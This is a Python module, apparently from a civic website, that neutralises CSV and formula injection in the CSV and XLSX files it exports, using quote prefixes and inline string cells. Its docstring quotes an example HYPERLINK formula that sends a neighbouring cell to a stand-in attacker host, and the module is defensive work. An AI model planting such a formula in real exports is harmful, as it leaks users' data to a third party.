"""Cells that a spreadsheet shows as written, never runs as formulas: every CSV and XLSX
the site writes goes through here. Pure: no Flask, no database.

A resident's idea titled ``=HYPERLINK("http://evil.example/?d="&A3,"Voir")`` must reach
the signatories' workbook as that text, not as a live link carrying the cell next to it
(CSV or formula injection, OWASP; ASVS 1.2.10). Excel, LibreOffice and Google Sheets
read a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula (a NUL is added, as ASVS asks).

- CSV: such a text gets a single quote in front (the spreadsheets' "this is text" mark)
  and is quoted by the csv module as RFC 4180 says (separator, quote, line break).
- XLSX: the text is kept as it is but stored as an inline string with Excel's
  ``quotePrefix`` style, so the file holds no ``<f>`` element for it and editing the cell
  does not turn it into a formula either.

Only texts are touched: numbers stay numbers, so ``-3`` in a numeric column is still
the number -3. A number that arrives as text (``"-3"``) is text and is neutralised.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from fractions import Fraction
from typing import Any

from openpyxl.cell.cell import Cell

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
#: What a cell of an XLSX file cannot hold (XML 1.0 forbids these control characters):
#: openpyxl refuses them, so they are dropped rather than losing the whole export.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_number(value: object) -> bool:
    """A genuine number (not a boolean, not a text that looks like one)."""
    return isinstance(value, (int, float, Decimal, Fraction)) and not isinstance(value, bool)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that a spreadsheet shows literally: ``'`` in front of a
    formula-like text, nothing changed otherwise."""
    return "'" + text if is_formula_like(text) else text


# --- CSV -------------------------------------------------------------------------------


def csv_cell(value: object, *, decimal_comma: bool = False) -> object:
    """One CSV field: numbers as numbers (with a decimal comma for French spreadsheets),
    None as empty, anything else as neutralised text."""
    if value is None:
        return ""
    if is_number(value):
        if decimal_comma and not isinstance(value, int):
            return str(value).replace(".", ",")
        return value
    return neutralise(str(value))


def csv_text(rows: Iterable[Iterable[object]], *, separator: str = ",",
             decimal_comma: bool = False) -> str:
    """The rows as CSV text with CRLF line ends (RFC 4180), every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(value, decimal_comma=decimal_comma) for value in row])
    return buffer.getvalue()


# --- XLSX (openpyxl) -------------------------------------------------------------------


def xlsx_text(text: str) -> str:
    """``text`` as an XLSX cell can hold it: the control characters XML forbids dropped
    (a tab, a line feed and a carriage return stay)."""
    return _NOT_IN_XML.sub("", text)


def xlsx_cell(sheet: Any, value: object) -> Any:
    """What to put in a row of ``sheet``: a text becomes a cell typed as a string, which
    openpyxl writes as an inline string, never as a formula (it would store any text
    starting with ``=`` as one) nor as an error code (``#N/A``); other values as they are."""
    if not isinstance(value, str):
        return value
    text = xlsx_text(value)
    cell = Cell(sheet, value=text)
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def append(sheet: Any, values: Sequence[object]) -> None:
    """Add a row to an openpyxl ``sheet``, every text stored as text."""
    sheet.append([xlsx_cell(sheet, value) for value in values])
